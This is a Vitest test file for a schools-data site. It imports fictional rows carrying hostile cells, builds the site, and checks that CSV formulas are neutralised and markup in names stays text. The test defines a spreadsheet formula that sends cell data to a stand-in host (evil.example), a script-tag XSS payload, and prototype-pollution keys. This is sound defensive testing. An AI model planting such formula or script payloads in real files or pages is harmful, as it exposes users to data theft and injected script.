/**
 * Issue 13: a build after an import of hostile rows succeeds. A copy of data/ gets an import (the
 * real command) of fictional schools with hostile cells: grade cells reading constructor and
 * __proto__, URN 0, a 0 old key judgement on a school with a report card, a region that is a live
 * spreadsheet formula, a name with markup, quotes, a comma and a line break. The site is then built
 * from it (BOW_DATA_DIR) into a temporary folder, and the served CSVs and a school page are checked.
 */
import { afterAll, describe, expect, it } from "vitest";
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { spawnSync } from "node:child_process";
import Papa from "papaparse";
import { parseHTML } from "linkedom";
import { generateSchools, schoolCells } from "../../src/lib/mi/fixture.ts";
import { encodeWindows1252 } from "../../src/lib/mi/encoding.ts";
import { MI_D2_COLUMNS } from "../../src/lib/mi/columns.ts";
import { FORMULA_START } from "../../src/lib/csv.ts";

const COL = (name: (typeof MI_D2_COLUMNS)[number]) => MI_D2_COLUMNS.indexOf(name);
const csvLine = (cells: readonly string[]) => cells.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(",");
const work = mkdtempSync(join(tmpdir(), "bow-hostile-build-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const HOSTILE_NAME = '<script>alert(1)</script> St "Quoted", School\nAnnexe';
const FORMULA_REGION = '=HYPERLINK("http://evil.example/?x="&C2,"Click")';

describe("a build after an import of hostile rows", () => {
  it("succeeds, and serves the hostile cells as text", () => {
    const data = join(work, "data");
    cpSync("data", data, { recursive: true });
    for (const f of ["release.json", "import-report.md", "imported"]) rmSync(join(data, f), { recursive: true, force: true });
    const schools = generateSchools(30, 77);
    const card = schools.findIndex((s, i) => s.card !== null && s.eif !== null && i > 3);
    const rows = schools.map(schoolCells);
    rows[0]![COL("Inclusion")] = "constructor";
    rows[1]![COL("Latest OEIF overall effectiveness")] = "__proto__";
    rows[2]![COL("URN")] = "0";
    rows[card]![COL("Latest OEIF quality of education")] = "0";
    rows[card]![COL("School name")] = HOSTILE_NAME;
    for (const r of rows.slice(3)) r[COL("Region")] = FORMULA_REGION;
    const src = join(work, "Management_information_as_at_31_Jan_2026.csv");
    writeFileSync(src, encodeWindows1252([MI_D2_COLUMNS.join(","), ...rows.map(csvLine)].join("\r\n") + "\r\n"));
    const imp = spawnSync(process.execPath, ["scripts/data-import.ts", src, "--out-dir", data], { encoding: "utf8" });
    expect(imp.status, imp.stderr).toBe(0);
    expect(JSON.parse(readFileSync(join(data, "release.json"), "utf8"))).toMatchObject({ rows_read: 30, rows_imported: 27, rows_rejected: 3 });

    const out = join(work, "dist");
    const astro = [process.execPath, "node_modules/astro/bin/astro.mjs", "build", "--outDir", out];
    const [cmd, ...argv] = existsSync("/usr/bin/flock") ? ["/usr/bin/flock", "-w", "300", "/tmp/build.lock", ...astro] : astro;
    const run = spawnSync(cmd!, argv, { env: { ...process.env, BOW_DATA_DIR: data, ASTRO_TELEMETRY_DISABLED: "1" }, encoding: "utf8", timeout: 600_000 });
    expect(run.status, (run.stdout + run.stderr).slice(-2000)).toBe(0);

    // Every served CSV: no cell starts a formula; the hostile region arrives as text.
    const csvs = [
      ...readdirSync(join(out, "data")).filter((f) => f.endsWith(".csv")).map((f) => join(out, "data", f)),
      ...readdirSync(join(out, "charts")).map((d) => join(out, "charts", d, "data.csv")).filter(existsSync),
    ];
    expect(csvs.length).toBeGreaterThan(10);
    const bad: string[] = [];
    let sawRegion = false;
    for (const f of csvs) {
      for (const c of Papa.parse<string[]>(readFileSync(f, "utf8").replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data.flat()) {
        if (FORMULA_START.test(c)) bad.push(`${f}: ${JSON.stringify(c)}`);
        if (c === `'${FORMULA_REGION}`) sawRegion = true;
      }
    }
    expect(bad).toEqual([]);
    expect(sawRegion).toBe(true);

    // The school with the hostile name: its page shows the name as text and keeps its report card.
    const page = parseHTML(readFileSync(join(out, "schools", String(schools[card]!.urn), "index.html"), "utf8")).document;
    expect(page.querySelector("main h1")!.textContent!.replace(/\s+/g, " ").trim()).toBe(HOSTILE_NAME.replace(/\s+/g, " "));
    // The markup in the name stays text: no element made from it anywhere on the page (in attribute
    // values, such as the preview card's title, "<" cannot open a tag).
    expect([...page.querySelectorAll("script")].filter((el) => (el.textContent ?? "").includes("alert(1)") && el.getAttribute("type") !== "application/ld+json")).toEqual([]);
    expect(page.body.innerHTML).not.toContain("<script>alert(1)</script>");
  }, 700_000);
});
